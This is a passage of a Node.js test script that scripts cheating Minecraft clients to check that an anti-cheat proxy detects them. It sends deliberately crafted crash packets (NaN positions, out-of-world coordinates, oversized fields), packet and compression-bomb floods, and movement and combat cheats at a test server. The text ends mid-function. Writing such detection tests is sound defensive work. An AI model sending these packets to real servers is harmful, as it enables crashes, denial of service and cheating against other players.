'use strict'

// cheat.js: one scripted cheating client, for the cheat suite. Each cheat
// is named after the detection check it must trigger.
//
//   node cheat.js --host H --port P --version V --username U --cheat KEY
//                 [--expect kick|drop|setback|alert] [--local-address A] [--timeout-ms N]
//
// The cheater is a mineflayer bot (it logs in, answers the edge's probes and
// moves like any mineflayer bot) that writes the offending packets itself
// with bot._client.write. Cheats that need someone to hit bring a second,
// honest bot, U + "v", standing next to the cheater.
//
// Around the offending packets a cheat sends control packets, legal ones of
// the same kind or harmless others, so the test can tell "the backend never
// got it" from "the backend logs nothing" (controls before) and "the player
// was dropped, not kicked" (controls after).
//
// --expect says what the check does with the offending packet; it only
// decides how long to wait for a kick before leaving (a kick cheat waits up
// to KICK_WAIT_MS, the others leave after AFTER_MS).
//
// stdout, one JSON line:
//   {"event":"result","cheat":KEY,"kicked":B,"kick_reason":R,
//    "offending":[PACKET,...],"control":[PACKET,...],"floods":[FLOOD,...],
//    "notes":[...]}                                                      exit 0
//   {"event":"error","stage":S,"error":E,...}                            exit 1
// PACKET is {"name":N,"params":{..}}: the minecraft-data name and the fields
// that identify the packet, encoded as backend.js --log-packets encodes what
// it received (non-finite numbers as strings, buffers as {"bytes":N}).
// FLOOD is {"name":N,"params":{..},"sent":N}: N copies of one packet.

const lib = require('./lib')
const { sleep, within, reasonText, blockData } = lib
const { Vec3 } = require('vec3')

lib.divertStdout()

const DEFAULT_TIMEOUT_MS = 60000

// After spawning, the cheater waits this long before cheating: the chunks
// arrive, mineflayer sends its first positions and the edge starts probing,
// as in a real session.
const SETTLE_MS = 1000
const CHUNK_WAIT_MS = 8000

// How long a kick may take to arrive after the packet that earns it (the
// edge kicks at once; this is slack for a loaded machine), and how long a
// player that should stay waits for a kick that should not come.
const KICK_WAIT_MS = 8000
const AFTER_MS = 1000

// The budgets of the flood checks are averages over a window (rate ×
// window): these counts exceed the defaults with margin. FLOOD_PACKETS
// packets against 500/s × 7 s; FLOOD_PAYLOADS plugin messages of
// PAYLOAD_BYTES against 64,000 B/s × 7 s; up to COMPRESS_PAYLOADS of them
// (120 MB) against 5,242,880 B/s × 7 s of inflated bytes, refilled while the
// flood runs (the check's edge turns flood.bytes off, which would fire
// first).
const FLOOD_PACKETS = 4000
const PAYLOAD_BYTES = 30000
const FLOOD_PAYLOADS = 16
const COMPRESS_PAYLOADS = 4000

// Packets a flood writes between two turns of the event loop.
const FLOOD_BATCH = 50

// The packets mineflayer's physics sends every tick.
const MOVEMENT_PACKETS = new Set(['flying', 'position', 'look', 'position_look'])

// Chat lines sent at once against chat.rate's 2/s × 10 s.
const CHAT_BURST = 25

// timer.balance: movement packets per second (vanilla sends 20) and the
// longest the cheat keeps it up.
const TIMER_RATE = 200
const TIMER_MAX_MS = 5000

// movement.reminder: rotation-only packets at the vanilla rate (one per
// tick) for longer than the reminder allows.
const REMINDER_LOOKS = 80
const TICK_MS = 50
// How long together keeps the socket corked after its sends.
const TOGETHER_MS = 20

// How many probes the probe-order cheat answers out of order (the check
// kicks at violation level 5).
const PROBE_SKIPS = 8

// How long after the cheater's spawn the first hit comes: the engine exempts
// combat for 3 s after a teleport (its teleportGrace), the spawn position
// included.
const COMBAT_AFTER_SPAWN_MS = 4000

// Where the victim stands: VICTIM_GAP blocks from the cheater (within
// VICTIM_SLACK), brought there by teleports of at most TP_STEP blocks (see
// bringVictim), TP_GAP_MS apart (spam.command allows one command per 50 ms after a burst of three).
const VICTIM_GAP = 1.5
const VICTIM_SLACK = 0.5
const TP_STEP = 6
const MAX_TP_STEPS = 20
const TP_GAP_MS = 150

// combat.attack_rate: attacks ATTACK_BURST_GAP_MS apart, a second of them,
// against 8 per 0.5 s and 15 per 1 s: about 20 flags, and the check kicks
// at violation level 10.
const ATTACK_BURST = 30
const ATTACK_BURST_GAP_MS = 33
// How far the victim walks away before the out-of-reach hit (vanilla
// reach is 3 blocks).
const REACH_WALK_MS = 1500
const MIN_REACH_DISTANCE = 5

// combat.hitbox: hits looking away, HITBOX_GAP_MS apart (before the first
// hit's knockback carries the victim out of reach).
const HITBOX_HITS = 2
const HITBOX_GAP_MS = 100

// combat.cps: swings at CPS_RATE a second (the experimental limit is 20).
const CPS_SWINGS = 40
const CPS_RATE = 35

// The movement bounds (layer 6). Each cheat stands still (the anchor, the
// last position the backend saw), then sends one offending move a tick from
// it until the kick: the edge drops each, so the next is judged from the
// anchor again, as it would judge a hacked client that keeps going.
// MOVE_TICKS_MAX bounds the moves (the speed cheat, which offends every other
// tick against a kick at violation level 20 that decays by 2 a second,
// needs the most: about 55). MOVE_UNIQUE makes every offending move a
// different packet, so the test can look each one up in the backend's log.
const MOVE_TICKS_MAX = 120
const MOVE_UNIQUE = 0.001
// One packet farther than vanilla's moved-too-quickly limit (10 blocks).
const TELEPORT_BLOCKS = 20
// A rise on the ground above the step height (0.6).
const STEP_BLOCKS = 1
// A descent on the ground beyond a first tick of falling (0.078).
const NOFALL_BLOCKS = 0.5
// A rise in the air beyond a jump (0.42) and, from 1.13, a bubble column
// (0.9).
const FLIGHT_BLOCKS = 1.5
// Hops back and forth of SPEED_BLOCKS, under the teleport bound, against a
// budget of 1 block a tick holding 20: the second hop away overdraws it,
// and every hop away from the anchor after that. The first SPEED_FREE_HOPS are
// not reported (a push the server sent may have credited the budget).
const SPEED_BLOCKS = 9

// movement.prediction (layer 6, with the world): cheats only a simulation
// of vanilla physics sees. Walking 10 % faster than vanilla (speed v per
// tick: v = v × 0.6 × 0.91 + 0.1 × 0.98 on stone), then hovering at the top
// of a jump instead of falling. PREDICT_SETTLE_TICKS of standing still
// first let the prediction learn the velocity (docs/DETECTIONS.md).
const PREDICT_SETTLE_TICKS = 10
const PREDICT_SPEED_TICKS = 30
const PREDICT_SPEED_FACTOR = 1.1
const PREDICT_STOP_TICKS = 15
const PREDICT_JUMP = [0.42, 0.3332, 0.2481, 0.1648] // a vanilla jump's first ticks
const PREDICT_HOVER_TICKS = 20
// The look the cheat moves with: vanilla yaw −90° faces +x.
const PREDICT_YAW = -90
const SPEED_FREE_HOPS = 3

// The interaction bounds. Reach cheats dig or place REACH_BLOCKS away, one
// every INTERACT_GAP_MS (slower than the break and place rate bound), up to
// INTERACT_MAX against a kick at violation level 10. Rate cheats send
// RATE_BURST at once against one a tick with a burst of 10 (the bucket holds
// 11; the first RATE_FREE are not reported) and a kick at violation level
// 20. The blocks they name are air (flying-squid ignores digs of air and
// placements with an empty hand), all different.
const REACH_BLOCKS = 20
const INTERACT_GAP_MS = 60
const INTERACT_MAX = 20
// FAST_BREAK_SETTLE_MS is how long the fast-break row waits after the
// first edge probe its client read after the obsidian (every 100 ms): the
// answer reaches the edge, which then knows the client has the block (on a
// loaded machine a fixed wait from the /setblock alone was not enough).
const FAST_BREAK_SETTLE_MS = 500
const RATE_BURST = 45
const RATE_FREE = 14

// combat.behind: the cheater faces the victim, walks BEHIND_STEP blocks a
// tick straight away from it until BEHIND_GAP blocks separate them, then
// faces away and hits it behind its back every BEHIND_TICKS ticks until the
// kick (VL 5), at most BEHIND_HITS times. Before 1.20.2 the victim is
// spawned as a player (a 0.6 × 1.8 box, widened by the check's 0.7): 3.1
// blocks is within reach and wholly behind. From 1.20.2 flying-squid spawns
// players with entity type 0, which the edge must take for any entity (a
// 4 × 12 box): only beyond about 10 blocks is all of that behind the look
// (the check runs before reach, so only it flags).
const BEHIND_STEP = 0.2
const BEHIND_GAP = 3.1
const BEHIND_GAP_TYPED = 13
const BEHIND_MAX_STEPS = 80
const BEHIND_TICKS = 3
const BEHIND_HITS = 12
const BEHIND_SETTLE_TICKS = 20

// combat.multi_target: rounds of two attacks on two entities in one tick,
// ROUND_TICKS apart, against a kick at violation level 5.
const MULTI_ROUNDS = 10
const ROUND_TICKS = 3

// chat.flood: chat lines at once against vanilla's spam counter (+20 a
// line, kick above 200: the eleventh); the first CHAT_FLOOD_CONTROLS are
// within it, from CHAT_FLOOD_OFFENDING on the counter is over it even if
// the lines spread over a few ticks.
const CHAT_FLOOD = 15
const CHAT_FLOOD_CONTROLS = 8
const CHAT_FLOOD_OFFENDING = 12

// inventory.unknown_window: a window id flying-squid never opens.
const UNKNOWN_WINDOW = 42

// Over-limit sizes: sign lines over 384 chars, tab-complete text over 256,
// anvil names over 35 (50 from 1.17), book pages over 100, brands over 64 bytes, REGISTER
// lists over 124 channels.
const SIGN_LINE = 400
const TAB_TEXT = 300
const ANVIL_NAME = 40
const ANVIL_NAME_1_17 = 60
const BOOK_PAGES = 120
const BRAND_BYTES = 100
const REGISTER_CHANNELS = 200

// The world checks (layer 6, world.*): each cheat stops mineflayer's
// movement, steps to the middle of its block (WORLD_STEP a tick, on the
// ground), reports that anchor as a control, builds its terrain with
// /setblock (flying-squid has no /fill) WORLD_BUILD_GAP_MS apart (the
// command spam check allows one per 50 ms after a burst of three), waits
// until its own client shows every block and then WORLD_SETTLE_MS more (the
// checks judge only blocks unchanged since the last probe the client
// answered), then sends its moves once a tick until the edge sets it back
// (the checks' action) or WORLD_MOVES_MAX. The setback is answered as a
// client does (the confirmation from 1.9, the position at its target),
// which the edge swallows, and a control after it shows the player stayed.
const WORLD_STEP = 0.1
const WORLD_BUILD_GAP_MS = 150
const WORLD_SETTLE_MS = 1500
const WORLD_MOVES_MAX = 40
const SETBACK_WAIT_MS = 5000
// world.jesus: the check flags the 10th position packet in a row level
// above liquid; the cheat walks on water WATER_WALK blocks a tick (a
// slow walk, far under the speed bound), level with the water's top.
const JESUS_TICKS = 10
const WATER_WALK = 0.05
// world.spider: rises of a ladder's climbing speed (0.2, which the
// world-free flight bound must allow: ladders look like this without the
// blocks) against a stone wall. The first SPIDER_FREE are a jump's: off
// the ground the bounds allow a jump's rise (0.42) and its next tick
// ((0.42 − 0.08) × 0.98); the third continues only the last rise of 0.2,
// which gravity allows no more than 0.12 of.
const SPIDER_RISE = 0.2
const SPIDER_FREE = 2
// world.phase: steps of PHASE_STEP into a stone wall: from the middle of
// the block, the second step takes the box into the wall (0.65 + 0.3 is
// clear of it, 0.8 + 0.3 is not).
const PHASE_STEP = 0.15

const opts = lib.args({
  host: { type: 'string', default: '127.0.0.1' },
  port: { type: 'string' },
  version: { type: 'string' },
  username: { type: 'string' },
  cheat: { type: 'string' },
  expect: { type: 'string', default: 'kick' },
  'local-address': { type: 'string' },
  'timeout-ms': { type: 'string', default: String(DEFAULT_TIMEOUT_MS) }
}, ['port', 'version', 'username', 'cheat'])
const port = lib.port(opts.port, 'port')
const timeoutMs = Number(opts['timeout-ms'])

const mineflayer = require('mineflayer')

// wire encodes packet fields the way backend.js logs them.
function wire (params) {
  return JSON.parse(JSON.stringify(params, function (key, value) {
    const raw = this[key]
    if (Buffer.isBuffer(raw)) return { bytes: raw.length }
    if (typeof value === 'bigint') return value.toString()
    if (typeof value === 'number' && !Number.isFinite(value)) return String(value)
    return value
  }))
}

// mcString is a protocol string: VarInt byte length, then UTF-8.
function mcString (s) {
  const body = Buffer.from(s, 'utf8')
  const len = []
  let n = body.length
  do {
    let b = n & 0x7f
    n >>>= 7
    if (n !== 0) b |= 0x80
    len.push(b)
  } while (n !== 0)
  return Buffer.concat([Buffer.from(len), body])
}

const result = { event: 'result', cheat: opts.cheat, kicked: false, kick_reason: '', offending: [], control: [], floods: [], notes: [] }
let finished = false
let stage = 'connect'
const bots = []

function finish (code, obj) {
  if (finished) return
  finished = true
  lib.emit(obj)
  for (const b of bots) {
    try { b.quit() } catch {}
  }
  setTimeout(() => process.exit(code), 300).unref()
  setTimeout(() => process.exit(code), 1500)
}

function failWith (message) {
  finish(1, { ...result, event: 'error', stage, error: String(message) })
}

setTimeout(() => failWith(`timeout after ${timeoutMs} ms`), timeoutMs).unref()

function makeBot (username) {
  const bot = mineflayer.createBot({
    host: opts.host,
    port,
    version: opts.version,
    username,
    ...lib.authOptions(username),
    hideErrors: true,
    logErrors: false,
    checkTimeoutInterval: timeoutMs,
    connect: lib.connectFrom(opts['local-address'], opts.host, port),
    // mineflayer's block_actions plugin reads the world for every block
    // break animation, and throws (ending the process) when one arrives
    // before its world exists: another row digging on the same backend
    // while this bot joins (world.fast_break's dig did it on 1.8.8). No
    // cheat uses its events.
    plugins: { block_actions: false }
  })
  bot.gone = null
  bot.kickedReason = null
  bot.kickedPromise = new Promise((resolve) => {
    bot.on('kicked', (reason) => {
      bot.kickedReason = reasonText(reason)
      bot.gone = 'kicked'
      resolve()
    })
  })
  bot.on('end', (reason) => {
    if (bot.gone === null) bot.gone = `connection ended: ${reason}`
  })
  bot.on('error', (err) => {
    // A serialisation error means the cheat did not send what it claims:
    // the run is void, not a detection.
    if (err && /Serialization error/.test(err.message)) failWith(`${username}: ${err.message}`)
    if (bot.gone === null) bot.gone = `client error: ${err && err.message ? err.message : err}`
  })
  bot.spawned = new Promise((resolve, reject) => {
    bot.once('spawn', resolve)
    bot.once('end', () => reject(new Error(`${username}: ${bot.gone ?? 'ended before spawn'}`)))
  })
  bots.push(bot)
  return bot
}

// ctx is what a cheat works with.
function context (bot, victim) {
  const v = bot.registry.version
  // send writes past pausePhysics's filter: every packet of the cheat goes
  // through it.
  const send = bot._client.write.bind(bot._client)
  const ctx = {
    bot,
    victim,
    since: (ver) => v['>='](ver),
    gone: () => bot.gone !== null,
    // write sends a packet and returns it as the backend would log it.
    send,
    // control sends a legal packet; pick names the fields that identify it.
    control (name, params, pick = Object.keys(params)) {
      send(name, params)
      result.control.push({ name, params: wire(subset(params, pick)) })
    },
    offend (name, params, pick = Object.keys(params)) {
      send(name, params)
      result.offending.push({ name, params: wire(subset(params, pick)) })
    },
    // together runs sends in one write to the socket, for rows whose check
    // compares arrival times: packets written one by one may reach the edge
    // in two reads, and a loaded machine can hold the second read back for
    // longer than the check's interval (spam.tab's 10 ms let one through;
    // spam.command's and burst's buckets refill a token each 50 ms).
    // The packets pass minecraft-protocol's streams on later ticks, so the
    // socket stays corked for a moment after the sends.
    async together (sends) {
      const socket = bot._client.socket
      socket.cork()
      try {
        sends()
        await sleep(TOGETHER_MS)
      } finally {
        socket.uncork()
      }
    },
    // expect names a packet the backend must receive that the cheat did not
    // send as it is: the edge's correction of an offending one.
    expect (name, params, pick = Object.keys(params)) {
      result.control.push({ name, params: wire(subset(params, pick)) })
    },
    // flood sends count copies of a packet, in batches with a turn of the
    // event loop between them so the edge's disconnect is read (and the
    // kick seen) when it comes, up to count or until the player is gone.
    async flood (name, params, count, pick = Object.keys(params)) {
      let sent = 0
      while (sent < count && !ctx.gone()) {
        for (let i = 0; i < FLOOD_BATCH && sent < count; i++, sent++) send(name, params)
        await new Promise((resolve) => setImmediate(resolve))
      }
      result.floods.push({ name, params: wire(subset(params, pick)), sent })
    },
    note (text) {
      result.notes.push(text)
    },
    // pausePhysics stops mineflayer's own movement packets (it sends one
    // per tick even with physics off), so the cheat's movement packets
    // take their place instead of adding ticks: each movement packet is a
    // client tick to the timer check.
    async pausePhysics () {
      bot.physicsEnabled = false
      bot._client.write = (name, params) => {
        if (!MOVEMENT_PACKETS.has(name)) send(name, params)
      }
      // A few ticks of silence first: mineflayer's last movement packets
      // (several at once when its loop caught up after a stall) may have
      // used the timer's whole drift allowance, and the cheat's first
      // movement packet would then be one tick too many: timer.balance
      // would rightly drop it, control or not.
      await sleep(3 * TICK_MS)
    },
    // Packet shapes that differ by version.
    ground (onGround = true) {
      return ctx.since('1.21.2') ? { flags: { onGround, hasHorizontalCollision: false } } : { onGround }
    },
    swing () {
      return ctx.since('1.9') ? { hand: 0 } : {}
    },
    // entity_action ids are written by name: minecraft-data maps them for
    // every version (backend.js logs the names too).
    action (name) {
      return name
    },
    brandChannel () {
      return ctx.since('1.13') ? 'minecraft:brand' : 'MC|Brand'
    },
    chatPacket (message) {
      if (!ctx.since('1.19')) return ['chat', { message }]
      return ['chat_message', { message, timestamp: BigInt(Date.now()), salt: 0n, signature: undefined, offset: 0, acknowledged: Buffer.alloc(3), checksum: 0 }]
    },
    commandName () {
      return ctx.since('1.19') ? 'chat_command' : 'chat'
    },
    commandParams (command) {
      return ctx.since('1.19') ? { command } : { message: '/' + command }
    },
    tabComplete (text) {
      if (ctx.since('1.13')) return { transactionId: 1, text }
      if (ctx.since('1.9')) return { text, assumeCommand: false, lookedAtBlock: undefined }
      return { text, block: undefined }
    },
    item (name, count) {
      const Item = require('prismarine-item')(bot.registry)
      return Item.toNotch(name === null ? null : new Item(bot.registry.itemsByName[name].id, count))
    },
    // place is a block placement against face on the block at location,
    // with the main hand (empty: flying-squid places nothing).
    place (location, face, sequence) {
      if (!ctx.since('1.9')) return { location, direction: face, heldItem: ctx.item(null), cursorX: 8, cursorY: 16, cursorZ: 8 }
      return { hand: 0, location, direction: face, cursorX: 0.5, cursorY: 1, cursorZ: 0.5, insideBlock: false, worldBorderHit: false, sequence }
    },
    // burst sends count packets made by make(location, i) at once, each for
    // a different block of the layer dy from the player's feet (within
    // reach, on faces the eye sees); the first free are not reported.
    async burst (count, free, make, dy) {
      const f = bot.entity.position.floored()
      const side = Math.ceil(Math.sqrt(count))
      await ctx.together(() => {
        for (let i = 0; i < count && !ctx.gone(); i++) {
          const at = { x: f.x + (i % side) - Math.floor(side / 2), y: f.y + dy, z: f.z + Math.floor(i / side) - Math.floor(side / 2) }
          const [name, params, pick] = make(at, i)
          if (i < free) send(name, params)
          else ctx.offend(name, params, pick)
        }
      })
    },
    useEntity (target, mouse, extra = {}) {
      const p = { target, mouse, ...extra }
      if (ctx.since('1.9') && mouse !== 1) p.hand = p.hand ?? 0
      if (ctx.since('1.16')) p.sneaking = false
      return p
    }
  }
  return ctx
}

function subset (params, pick) {
  const out = {}
  for (const k of pick) out[k] = params[k]
  return out
}

// harmless is a legal packet nothing checks twice in a row: the held slot,
// cycling, so same_slot never fires.
let harmlessSlot = 1
function harmless (ctx) {
  harmlessSlot = (harmlessSlot % 7) + 1
  ctx.control('held_item_slot', { slotId: harmlessSlot })
}

// answerProbes replaces mineflayer's answers to window confirmations (before
// 1.17) and pings (1.17+) with fn(kind, packet).
function answerProbes (bot, fn) {
  const kind = bot.supportFeature('transactionPacketExists') ? 'transaction' : 'ping'
  bot._client.removeAllListeners(kind)
  bot._client.on(kind, (packet) => fn(kind, packet))
}

function answer (bot, kind, packet, accepted = true) {
  if (kind === 'transaction') bot._client.write('transaction', { windowId: packet.windowId, action: packet.action, accepted })
  else bot._client.write('pong', { id: packet.id })
}

// The cheats, by check key. Each returns when it has sent everything.
const cheats = {
  'frame.size': async (ctx) => {
    ctx.control('held_item_slot', { slotId: 4 })
    // A held-item change with three bytes after its field.
    const params = { slotId: 5 }
    const buf = ctx.bot._client.serializer.createPacketBuffer({ name: 'held_item_slot', params })
    ctx.bot._client.writeRaw(Buffer.concat([buf, Buffer.from([0xde, 0xad, 0xbe])]))
    result.offending.push({ name: 'held_item_slot', params })
  },
  'flood.packets': async (ctx) => {
    await ctx.flood('arm_animation', ctx.swing(), FLOOD_PACKETS)
  },
  'flood.bytes': async (ctx) => {
    const channel = ctx.since('1.13') ? 'rustguard:flood' : 'RG|flood'
    await ctx.flood('custom_payload', { channel, data: Buffer.alloc(PAYLOAD_BYTES, 0x61) }, FLOOD_PAYLOADS)
  },
  'compress.rate': async (ctx) => {
    const channel = ctx.since('1.13') ? 'rustguard:bomb' : 'RG|bomb'
    // Each payload compresses to a few hundred bytes on the wire; the
    // flood goes on until the kick (the budget refills while it runs).
    await ctx.flood('custom_payload', { channel, data: Buffer.alloc(PAYLOAD_BYTES, 0) }, COMPRESS_PAYLOADS)
  },
  'crash.move_non_finite': async (ctx) => {
    await ctx.pausePhysics()
    const p = ctx.bot.entity.position
    ctx.control('position_look', { x: p.x, y: p.y, z: p.z, yaw: 0, pitch: 12.5, ...ctx.ground() }, ['pitch'])
    ctx.offend('position_look', { x: NaN, y: p.y, z: p.z, yaw: 0, pitch: 0, ...ctx.ground() }, ['x'])
  },
  'crash.move_out_of_world': async (ctx) => {
    await ctx.pausePhysics()
    const p = ctx.bot.entity.position
    ctx.control('position', { x: p.x, y: p.y, z: p.z, ...ctx.ground() }, ['x'])
    ctx.offend('position', { x: 3.2e7, y: p.y, z: p.z, ...ctx.ground() }, ['x'])
  },
  'badpackets.invalid_pitch': async (ctx) => {
    await ctx.pausePhysics()
    ctx.control('look', { yaw: 0, pitch: 12.5, ...ctx.ground() }, ['pitch'])
    await sleep(TICK_MS)
    // The check kicks at violation level 3, which decays a little between
    // flags: the fourth one kicks.
    for (const pitch of [100, 110, 120, 130]) {
      if (ctx.gone()) break
      ctx.offend('look', { yaw: 0, pitch, ...ctx.ground() }, ['pitch'])
      await sleep(TICK_MS)
    }
  },
  'badpackets.slot_range': async (ctx) => {
    ctx.control('held_item_slot', { slotId: 4 })
    ctx.offend('held_item_slot', { slotId: 12 })
  },
  'badpackets.same_slot': async (ctx) => {
    ctx.control('held_item_slot', { slotId: 6 })
    await sleep(TICK_MS)
    ctx.offend('held_item_slot', { slotId: 6 })
    await sleep(TICK_MS)
    ctx.control('held_item_slot', { slotId: 7 })
  },
  'crash.creative': async (ctx) => {
    harmless(ctx)
    ctx.offend('set_creative_slot', { slot: 37, item: ctx.item('stone', 1) }, ['slot'])
    harmless(ctx)
  },
  'badpackets.dig_fields': async (ctx) => {
    harmless(ctx)
    // Drop one item, but at a block position (vanilla sends 0,0,0).
    ctx.offend('block_dig', { status: 4, location: { x: 1, y: 2, z: 3 }, face: 0, sequence: 0 }, ['status', 'location'])
    harmless(ctx)
  },
  'badpackets.use_fields': async (ctx) => {
    harmless(ctx)
    // A placement with the hand 7 (vanilla: 0 or 1), against the air high
    // above the world, holding nothing: the backend ignores it.
    ctx.offend('block_place', {
      hand: 7,
      location: { x: 0, y: 120, z: 0 },
      direction: 1,
      cursorX: 0.5,
      cursorY: 0.5,
      cursorZ: 0.5,
      insideBlock: false,
      worldBorderHit: false,
      sequence: 0
    }, ['hand', 'location'])
    harmless(ctx)
  },
  'crash.negative_sequence': async (ctx) => {
    harmless(ctx)
    ctx.offend('use_item', { hand: 0, sequence: -5, rotation: { x: 0, y: 0 } }, ['sequence'])
    harmless(ctx)
  },
  'client.brand': async (ctx) => {
    harmless(ctx)
    const data = mcString('x'.repeat(BRAND_BYTES))
    ctx.offend('custom_payload', { channel: ctx.brandChannel(), data }, ['channel', 'data'])
    harmless(ctx)
  },
  'crash.view_distance': async (ctx) => {
    const settings = (viewDistance) => ({
      locale: 'en_US',
      viewDistance,
      chatFlags: 0,
      chatColors: true,
      skinParts: 127,
      mainHand: 1,
      enableTextFiltering: false,
      enableServerListing: true,
      particles: 0
    })
    ctx.control('settings', settings(4), ['viewDistance'])
    await sleep(TICK_MS)
    ctx.offend('settings', settings(1), ['viewDistance'])
    ctx.expect('settings', settings(2), ['viewDistance']) // clamped by the edge
    await sleep(TICK_MS)
    ctx.control('settings', settings(5), ['viewDistance'])
  },
  'badpackets.sprint_repeat': async (ctx) => {
    const id = ctx.bot.entity.id
    ctx.control('entity_action', { entityId: id, actionId: ctx.action('start_sprinting'), jumpBoost: 0 }, ['actionId'])
    await sleep(TICK_MS)
    ctx.offend('entity_action', { entityId: id, actionId: ctx.action('start_sprinting'), jumpBoost: 0 }, ['actionId'])
    await sleep(TICK_MS)
    ctx.control('entity_action', { entityId: id, actionId: ctx.action('stop_sprinting'), jumpBoost: 0 }, ['actionId'])
  },
  'badpackets.sneak_repeat': async (ctx) => {
    const id = ctx.bot.entity.id
    ctx.control('entity_action', { entityId: id, actionId: ctx.action('start_sneaking'), jumpBoost: 0 }, ['actionId'])
    await sleep(TICK_MS)
    ctx.offend('entity_action', { entityId: id, actionId: ctx.action('start_sneaking'), jumpBoost: 0 }, ['actionId'])
    await sleep(TICK_MS)
    ctx.control('entity_action', { entityId: id, actionId: ctx.action('stop_sneaking'), jumpBoost: 0 }, ['actionId'])
  },
  'crash.click_fields': async (ctx) => {
    harmless(ctx)
    const click = ctx.since('1.17')
      ? { windowId: 0, stateId: 0, slot: 500, mouseButton: 0, mode: 0, changedSlots: [], cursorItem: ctx.item(null) }
      : { windowId: 0, slot: 500, mouseButton: 0, action: 77, mode: 0, item: ctx.item(null) }
    ctx.offend('window_click', click, ['slot'])
    harmless(ctx)
  },
  'crash.anvil_name': async (ctx) => {
    harmless(ctx)
    if (ctx.since('1.13')) {
      // The rename has its own packet; the field holds 50 from 1.17.
      ctx.offend('name_item', { name: 'n'.repeat(ANVIL_NAME_1_17) })
    } else {
      ctx.offend('custom_payload', { channel: 'MC|ItemName', data: mcString('n'.repeat(ANVIL_NAME)) }, ['channel'])
    }
    harmless(ctx)
  },
  'badpackets.mount_jump': async (ctx) => {
    harmless(ctx)
    // A sneak for an entity that is not the player.
    const other = ctx.bot.entity.id + 1000
    ctx.offend('entity_action', { entityId: other, actionId: ctx.action('start_sneaking'), jumpBoost: 0 }, ['entityId'])
    harmless(ctx)
  },
  'badpackets.fly': async (ctx) => {
    harmless(ctx)
    // Start flying (flag 2) in survival.
    const fly = ctx.since('1.16') ? { flags: 2 } : { flags: 2, flyingSpeed: 0.05, walkingSpeed: 0.1 }
    ctx.offend('abilities', fly, ['flags'])
    harmless(ctx)
  },
  'badpackets.txn_rejected': async (ctx) => {
    harmless(ctx)
    let sent = false
    answerProbes(ctx.bot, (kind, packet) => {
      if (sent || packet.windowId !== 0 || packet.action >= 0) return answer(ctx.bot, kind, packet)
      sent = true
      ctx.offend('transaction', { windowId: 0, action: packet.action, accepted: false }, ['accepted'])
    })
    await within(new Promise((resolve) => {
      const t = setInterval(() => { if (sent || ctx.gone()) { clearInterval(t); resolve() } }, TICK_MS)
    }), KICK_WAIT_MS, 'a window confirmation probe')
  },
  'latency.probe_order': async (ctx) => {
    harmless(ctx)
    // The edge probes while the server sends traffic: the victim jumping
    // in sight makes flying-squid send its movement every tick.
    ctx.victim.setControlState('jump', true)
    // Keep the newest probe, drop the one before it: each answer skips one.
    let held = null
    let skips = 0
    answerProbes(ctx.bot, (kind, packet) => {
      if (kind === 'transaction' && (packet.windowId !== 0 || packet.action >= 0)) return answer(ctx.bot, kind, packet)
      if (held === null || skips >= PROBE_SKIPS) {
        held = packet
        return
      }
      held = null
      skips++
      answer(ctx.bot, kind, packet)
    })
    await within(new Promise((resolve) => {
      const t = setInterval(() => { if (skips >= PROBE_SKIPS || ctx.gone()) { clearInterval(t); resolve() } }, TICK_MS)
    }), KICK_WAIT_MS, `${PROBE_SKIPS} out-of-order answers`)
    ctx.note(`answered ${skips} probes out of order`)
  },
  'latency.probe_timeout': async (ctx) => {
    harmless(ctx)
    // Never answer; mineflayer keeps moving (and sending) meanwhile.
    answerProbes(ctx.bot, () => {})
    ctx.bot.setControlState('jump', true)
  },
  'latency.keepalive_order': async (ctx) => {
    harmless(ctx)
    const id = ctx.since('1.12.2') ? 123456789n : 123456789
    ctx.offend('keep_alive', { keepAliveId: id })
    harmless(ctx)
  },
  'movement.reminder': async (ctx) => {
    // Rotation only, one per tick, with no position for four seconds.
    await ctx.pausePhysics()
    let sent = 0
    for (; sent < REMINDER_LOOKS && !ctx.gone(); sent++) {
      ctx.send('look', { yaw: sent, pitch: 33.5, ...ctx.ground() })
      await sleep(TICK_MS)
    }
    result.floods.push({ name: 'look', params: { pitch: 33.5 }, sent })
  },
  'timer.balance': async (ctx) => {
    await ctx.pausePhysics()
    const p = ctx.bot.entity.position
    const params = { x: p.x, y: p.y, z: p.z, ...ctx.ground() }
    let sent = 0
    const end = Date.now() + TIMER_MAX_MS
    while (!ctx.gone() && Date.now() < end) {
      for (let i = 0; i < TIMER_RATE / 20; i++) ctx.send('position', params)
      sent += TIMER_RATE / 20
      await sleep(TICK_MS)
    }
    result.floods.push({ name: 'position', params: wire({ x: p.x }), sent })
  },
  'order.no_swing': async (ctx) => {
    await ctx.pausePhysics()
    const target = ctx.victim.entity.id
    const p = ctx.bot.entity.position
    // Attacks without the arm swing, each closed by a tick packet.
    for (let i = 0; i < 2; i++) {
      ctx.offend('use_entity', ctx.useEntity(target, 1), ['target', 'mouse'])
      ctx.send('position', { x: p.x, y: p.y, z: p.z, ...ctx.ground() })
      await sleep(TICK_MS * 10)
    }
  },
  'combat.attack_rate': async (ctx) => {
    const target = ctx.victim.entity.id
    const params = ctx.useEntity(target, 1)
    let sent = 0
    for (; sent < ATTACK_BURST && !ctx.gone(); sent++) {
      if (!ctx.since('1.9')) ctx.bot._client.write('arm_animation', ctx.swing())
      ctx.bot._client.write('use_entity', params)
      if (ctx.since('1.9')) ctx.bot._client.write('arm_animation', ctx.swing())
      await sleep(ATTACK_BURST_GAP_MS)
    }
    result.floods.push({ name: 'use_entity', params: wire(subset(params, ['target', 'mouse'])), sent })
  },
  'combat.interact_vector': async (ctx) => {
    const target = ctx.victim.entity.id
    // Hit vectors are floats: values exact in binary compare exactly.
    ctx.control('use_entity', ctx.useEntity(target, 2, { x: 0.25, y: 1, z: 0.25 }), ['target', 'mouse', 'x'])
    ctx.control('use_entity', ctx.useEntity(target, 0), ['target', 'mouse'])
    // A hundred blocks off the side of the target: outside any box the
    // check allows (up to 4 blocks wide, ×16 for scaled entities since
    // 1.20.5; flying-squid spawns players with other entity types on some
    // versions).
    ctx.offend('use_entity', ctx.useEntity(target, 2, { x: 100, y: 1, z: 0.25 }), ['target', 'mouse', 'x'])
    ctx.control('use_entity', ctx.useEntity(target, 0), ['target', 'mouse'])
  },
  'combat.reach': async (ctx) => {
    const bot = ctx.bot
    const victim = ctx.victim
    const target = victim.entity.id
    const hit = async () => {
      await bot.lookAt(victim.entity.position.offset(0, 1.4, 0), true)
      await sleep(TICK_MS * 2)
      if (!ctx.since('1.9')) bot._client.write('arm_animation', ctx.swing())
      bot._client.write('use_entity', ctx.useEntity(target, 1))
